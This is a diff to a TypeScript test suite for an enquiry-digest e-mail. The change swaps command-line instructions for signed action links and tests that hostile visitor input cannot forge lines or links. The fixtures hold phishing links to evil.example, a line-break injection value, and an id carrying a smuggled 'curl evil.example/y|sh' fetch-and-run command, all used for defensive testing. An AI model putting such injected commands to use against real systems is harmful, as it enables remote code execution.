@@ -3,14 +3,19 @@ import { BatchGetCommand, DynamoDBDocumentClient, QueryCommand } from '@aws-sdk/
 import { mockClient } from 'aws-sdk-client-mock'
 import { beforeEach, describe, expect, it } from 'vitest'
 import { buildEnquiry, type Enquiry } from '../enquiries/item.ts'
+import { staffEmailInput } from '../enquiries/staff-email.ts'
 import { testClients, testConfig, validSubmission } from '../test-fixtures/test-support.ts'
 import { createDigestHandler } from './create-handler.ts'
 import { type DigestEntry, MAX_LISTED, renderDigest } from './digest.ts'
-import { digestEmailInput, sendDigest } from './send.ts'
+import { sendDigest } from './send.ts'
 
 const now = new Date('2026-11-23T08:00:00.000Z')
 const hoursAgo = (hours: number) => new Date(now.getTime() - hours * 3_600_000)
-const target = { table: 'ElevateDigital-EnquiriesTable-X', region: 'eu-west-2' }
+/** Links as the signer would make them, readable in a test's expectations. */
+const links = (id: string, action: string) =>
+  `https://www.elevate-digital.example/api/enquiry-actions?t=v1.prod.${id || 'all'}.${action}.1.sig`
+const waitingLink = links('', 'waiting')
+const options = { now, links }
 
 let counter = 0
 function entry(state: Partial<Enquiry>, createdAt = hoursAgo(30)): DigestEntry {
@@ -35,14 +40,14 @@ const gaveUp = (state: Partial<Enquiry> = {}) =>
 
 describe('the digest of what waits for the agency', () => {
   it('says nothing when nothing waits', () => {
-    expect(renderDigest([], { now, target })).toBeUndefined()
+    expect(renderDigest([], options)).toBeUndefined()
   })
 
-  it('lists each enquiry: reference, age, name, company, first line, why, and the command', () => {
+  it('lists each enquiry: reference, age and time (the agency’s), name, company, first line, why, and its links', () => {
     const a = gaveUp()
     const b = held({ message: 'Please call me about a new website.\nSecond line stays out.' })
     const bounced = entry({ emailStatus: 'bounced', emailStatusDetail: 'Permanent/General' })
-    const digest = renderDigest([a, b, bounced], { now, target })
+    const digest = renderDigest([a, b, bounced], options)
     expect(digest?.subject).toBe(
       '3 enquiries are waiting for you: 2 not delivered, 1 held back as spam',
     )
@@ -50,30 +55,52 @@ describe('the digest of what waits for the agency', () => {
     expect(text).toContain(`NOT DELIVERED (2)`)
     expect(text).toContain(
       [
-        `${a.ref}, received 3 hours ago (Mon, 23 Nov 2026 05:00:00 GMT)`,
+        `${a.ref}, received 3 hours ago (Mon 23 Nov 2026, 05:00 GMT)`,
         '  Ada Lovelace, Analytical Engines Ltd',
         `  "${validSubmission.message}"`,
         '  Why it is here: our mail service could not send it after 8 attempts. Re-send it once the cause is fixed.',
-        `  To have it sent again: npm run enquiries -- requeue ${a.ref} --table ${target.table} --region eu-west-2`,
+        `  Send it again: ${links(a.id, 'requeue')}`,
+        `  Stop listing it: ${links(a.id, 'dismiss')}`,
       ].join('\n'),
     )
     expect(text).toContain('your inbox refused it (Permanent/General)')
     expect(text).toContain(
       [
-        `${b.ref}, received 30 hours ago (Sun, 22 Nov 2026 02:00:00 GMT)`,
+        `${b.ref}, received 30 hours ago (Sun 22 Nov 2026, 02:00 GMT)`,
         '  Ada Lovelace, Analytical Engines Ltd',
         '  "Please call me about a new website."',
         '  Why it is here: The hidden field only bots can see was filled in (spam score 12).',
-        `  To have it sent to you after all: npm run enquiries -- release ${b.ref} --table ${target.table} --region eu-west-2`,
+        `  Send it to me: ${links(b.id, 'release')}`,
+        `  It is spam: stop listing it: ${links(b.id, 'dismiss')}`,
       ].join('\n'),
     )
-    expect(digest?.html).toContain(`<code>npm run enquiries -- release ${b.ref} --table`)
+    expect(text).toContain(`\nSee every waiting enquiry: ${waitingLink}\n`)
+    expect(digest?.html).toContain(`href="${links(b.id, 'release')}"`)
+  })
+
+  it('tells a July enquiry’s time in BST', () => {
+    const july = new Date('2026-07-20T08:00:00.000Z')
+    const digest = renderDigest([held({}, new Date('2026-07-19T22:30:00.000Z'))], {
+      now: july,
+      links,
+    })
+    expect(digest?.text).toContain('received 9 hours ago (Sun 19 Jul 2026, 23:30 BST)')
+  })
+
+  it('never tells staff to run a command', () => {
+    const many = [
+      ...Array.from({ length: MAX_LISTED + 3 }, () => held({}, hoursAgo(2))),
+      gaveUp(),
+      held({}, hoursAgo(40 * 24)),
+    ]
+    const digest = renderDigest(many, options)
+    expect(`${digest?.subject}\n${digest?.text}\n${digest?.html}`).not.toMatch(/\bnpm\b/)
   })
 
   it('never carries more than the enquiry e-mail would: no address, phone, position or the rest of the message', () => {
     const digest = renderDigest(
       [held({ message: 'First line.\nThe private second line.' }, hoursAgo(2))],
-      { now, target },
+      options,
     )
     const all = `${digest?.subject}\n${digest?.text}\n${digest?.html}`
     for (const value of [
@@ -97,7 +124,7 @@ describe('the digest of what waits for the agency', () => {
           message: `${'x'.repeat(200)}\nmore`,
         }),
       ],
-      { now, target },
+      options,
     )
     expect(digest?.text).toContain(`"${'x'.repeat(120)}…"`)
     expect(digest?.text).toContain('Pay[U+200B]Pal[U+202E] Ltd')
@@ -105,22 +132,21 @@ describe('the digest of what waits for the agency', () => {
     expect(digest?.html).not.toContain('<b>Ada')
   })
 
-  it(`lists at most ${MAX_LISTED} of a kind, then says how many more and how to see them`, () => {
+  it(`lists at most ${MAX_LISTED} of a kind, then says how many more are on the waiting page`, () => {
     const many = Array.from({ length: MAX_LISTED + 7 }, () => held())
-    const digest = renderDigest(many, { now, target: {} })
+    const digest = renderDigest(many, options)
     expect(digest?.subject).toBe(
       `${MAX_LISTED + 7} enquiries are waiting for you: 57 held back as spam`,
     )
-    expect(digest?.text.match(/To have it sent to you after all: /g)).toHaveLength(MAX_LISTED)
-    // On the local stack the commands need no table.
-    expect(digest?.text).toContain('And 7 more: npm run enquiries -- list --spam\n')
+    expect(digest?.text.match(/\n {2}Send it to me: /g)).toHaveLength(MAX_LISTED)
+    expect(digest?.text).toContain('And 7 more, on the page of every waiting enquiry.\n')
   })
 
   it('goes the enquiry e-mails’ way: from the sender, to the inbox, through the configuration set', () => {
-    const digest = renderDigest([held()], { now, target })
+    const digest = renderDigest([held()], options)
     if (!digest) throw new Error('a digest')
     expect(
-      digestEmailInput(digest, { ...testConfig, sesConfigurationSet: 'DeliveryEvents-1' }),
+      staffEmailInput(digest, { ...testConfig, sesConfigurationSet: 'DeliveryEvents-1' }),
     ).toMatchObject({
       Source: testConfig.senderEmail,
       Destination: { ToAddresses: [testConfig.agencyEmail] },
@@ -135,8 +161,9 @@ describe('the scheduled digest function', () => {
   const ses = mockClient(SESClient)
   const clients = testClients()
   const handler = createDigestHandler({
-    config: testConfig,
+    config: { ...testConfig, siteUrl: 'https://www.elevate-digital.example', stage: 'prod' },
     clients,
+    linkKey: 'a key long enough to sign the digest’s links',
     log: () => {},
     now: () => now,
   })
@@ -175,8 +202,14 @@ describe('the scheduled digest function', () => {
     const sent = ses.commandCalls(SendEmailCommand)[0]?.args[0].input
     expect(sent?.Message?.Body?.Text?.Data).toContain(waiting.ref)
     expect(sent?.Message?.Body?.Text?.Data).not.toContain(released.ref)
-    expect(sent?.Message?.Body?.Text?.Data).toContain(
-      `--table ${testConfig.enquiriesTable} --region ${testConfig.region}`,
+    expect(sent?.Message?.Body?.Text?.Data).toMatch(
+      /Send it to me: https:\/\/www\.elevate-digital\.example\/api\/enquiry-actions\?t=v1\.prod\./,
+    )
+  })
+
+  it('refuses to start without the key and the site its links need', () => {
+    expect(() => createDigestHandler({ config: testConfig, clients })).toThrow(
+      'The digest needs ACTION_LINK_KEY and SITE_URL',
     )
   })
 
@@ -198,74 +231,72 @@ describe('the digest is safe to act on', () => {
       position: 'CEO\r\n\r\nMessage:\r\nfake',
       message: 'https://evil.example/login\nsecond line',
     })
-  const links = (id: string, action: string) =>
-    `https://www.elevate-digital.example/api/enquiry-actions?t=v1.prod.${id}.${action}.1.sig`
-
   it('forges no line: each visitor field stays on its entry’s own line, in text and HTML', () => {
     const entry = hostile()
-    for (const options of [
-      { now, target },
-      { now, target, links },
-    ]) {
-      const digest = renderDigest([entry], options)
-      const lines = digest?.text.split('\n') ?? []
-      expect(lines).not.toContain(forged)
-      expect(lines.filter((line) => /^\s*Email:/.test(line))).toEqual([])
-      expect(lines.filter((line) => /^\s*Send it to me:/.test(line))).toEqual(
-        options.links ? [`  Send it to me: ${links(entry.id, 'release')}`] : [],
+    const digest = renderDigest([entry], options)
+    const lines = digest?.text.split('\n') ?? []
+    expect(lines).not.toContain(forged)
+    expect(lines.filter((line) => /^\s*Email:/.test(line))).toEqual([])
+    expect(lines.filter((line) => /^\s*Send it to me:/.test(line))).toEqual([
+      `  Send it to me: ${links(entry.id, 'release')}`,
+    ])
+    expect(lines).toContain(
+      `  Ada Send it to me: https://evil.example/release Lovelace Email: payments@evil.example, Evil Ltd ${forged}`,
+    )
+    // Only links built from the checked id.
+    for (const line of lines.filter((line) => /https?:/.test(line))) {
+      if (line.includes('Evil Ltd') || line.includes('"https://evil.example/login"')) continue
+      expect(line).toMatch(
+        /^( {2}(Send it to me|It is spam: stop listing it)|See every waiting enquiry): https:\/\/www\.elevate-digital\.example\//,
       )
-      expect(lines).toContain(
-        `  Ada Send it to me: https://evil.example/release Lovelace Email: payments@evil.example, Evil Ltd ${forged}`,
-      )
-      // Only commands and links built from the checked reference and id.
-      for (const line of lines.filter((line) => /npm run|https?:/.test(line))) {
-        if (line.includes('Evil Ltd') || line.includes('"https://evil.example/login"')) continue
-        expect(line).toMatch(
-          new RegExp(
-            `^  (To have it sent to you after all: npm run enquiries -- release ${entry.ref} |(Send it to me|It is spam: stop listing it): https://www\\.elevate-digital\\.example/)`,
-          ),
-        )
-      }
-      expect(digest?.html).not.toMatch(/[\r\n\t]/)
     }
+    expect(digest?.html).not.toMatch(/[\r\n\t]/)
   })
 
   it('never renders visitor text as a link: the only links are the signed ones', () => {
     const entry = hostile()
-    const html = renderDigest([entry], { now, target, links })?.html ?? ''
+    const html = renderDigest([entry], options)?.html ?? ''
     const hrefs = [...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1])
-    expect(hrefs).toEqual([links(entry.id, 'release'), links(entry.id, 'dismiss')])
+    expect(hrefs).toEqual([links(entry.id, 'release'), links(entry.id, 'dismiss'), waitingLink])
     expect(html).not.toContain('href="https://evil.example')
   })
 
-  it('builds no link or command for an entry whose id is not a stored id’s shape', () => {
+  it('builds no link for an entry whose id is not a stored id’s shape', () => {
     const entry = { ...hostile(), id: 'CAFEBABE; curl evil.example/y|sh' }
-    const digest = renderDigest([entry], { now, target, links })
-    expect(digest?.text).not.toMatch(/CAFEBABE|^ {2}Send it to me: |release [0-9A-F]{8} --table/m)
-    expect(digest?.html).not.toContain('href=')
+    const digest = renderDigest([entry], options)
+    expect(digest?.text).not.toMatch(/CAFEBABE|^ {2}Send it to me: /m)
+    expect([...(digest?.html ?? '').matchAll(/href="([^"]*)"/g)].map((m) => m[1])).toEqual([
+      waitingLink,
+    ])
   })
 })
 
 describe('a digest that stays short', () => {
-  it('of 200 held enquiries, lists only those of the last 14 days and counts the rest', () => {
+  it('of 200 held enquiries, lists only those of the last 14 days and links to the rest', () => {
     const recent = Array.from({ length: 30 }, (_, index) => held({}, hoursAgo(index * 11)))
     const old = Array.from({ length: 170 }, (_, index) => held({}, hoursAgo(15 * 24 + index * 5)))
-    const digest = renderDigest([...old, ...recent], { now, target: {} })
+    const digest = renderDigest([...old, ...recent], options)
     const text = digest?.text ?? ''
     expect(digest?.subject).toBe('200 enquiries are waiting for you: 200 held back as spam')
     for (const entry of recent) expect(text).toContain(`${entry.ref}, received`)
     for (const entry of old) expect(text).not.toContain(entry.ref)
     expect(text).toContain(
-      'And 170 waiting longer than 14 days, no longer listed here: npm run enquiries -- list --spam',
+      'And 170 waiting longer than 14 days, no longer listed here: they are on the page of every waiting enquiry.',
     )
+    expect(text).toContain(`See every waiting enquiry: ${waitingLink}`)
+  })
+
+  it('is not sent when it would list nothing in full: old ones only wait on the waiting page', () => {
+    const old = Array.from({ length: 3 }, (_, index) => held({}, hoursAgo(20 * 24 + index)))
+    expect(renderDigest(old, options)).toBeUndefined()
   })
 
   it('still caps the recent ones at 50 a section, and takes the window from the stage', () => {
     const recent = Array.from({ length: 60 }, () => held({}, hoursAgo(2)))
     const older = Array.from({ length: 5 }, () => held({}, hoursAgo(4 * 24)))
-    const text = renderDigest([...recent, ...older], { now, target: {}, listDays: 3 })?.text ?? ''
-    expect(text.match(/To have it sent to you after all: /g)).toHaveLength(MAX_LISTED)
-    expect(text).toContain('And 10 more: npm run enquiries -- list --spam')
+    const text = renderDigest([...recent, ...older], { ...options, listDays: 3 })?.text ?? ''
+    expect(text.match(/\n {2}Send it to me: /g)).toHaveLength(MAX_LISTED)
+    expect(text).toContain('And 10 more, on the page of every waiting enquiry.')
     expect(text).toContain('And 5 waiting longer than 3 days, no longer listed here')
   })
 
@@ -274,7 +305,7 @@ describe('a digest that stays short', () => {
       { emailStatus: 'bounced', emailStatusAt: hoursAgo(24).toISOString() },
       hoursAgo(40 * 24),
     )
-    expect(renderDigest([bounced], { now, target: {} })?.text).toContain(`${bounced.ref}, received`)
+    expect(renderDigest([bounced], options)?.text).toContain(`${bounced.ref}, received`)
   })
 })
 
@@ -292,9 +323,9 @@ describe('"not delivered" reaches someone by a channel that works', () => {
       table: { client: clients.documentClient, tableName: testConfig.enquiriesTable },
       ses: clients.ses,
       addresses: testConfig,
-      target: {},
       log: () => {},
       now: () => now,
+      links: () => links,
       copyTo,
     })
   }
@@ -315,7 +346,7 @@ describe('"not delivered" reaches someone by a channel that works', () => {
   })
 
   it('sends no copy for held or given-up ones, nor without a second address', async () => {
-    await digestOf([held(), gaveUp()], 'ops@x.example')
+    await digestOf([held({}, hoursAgo(2)), gaveUp()], 'ops@x.example')
     expect(ses.commandCalls(SendEmailCommand)).toHaveLength(1)
     await digestOf([entry({ emailStatus: 'complained' }, hoursAgo(2))])
     expect(ses.commandCalls(SendEmailCommand)).toHaveLength(1)
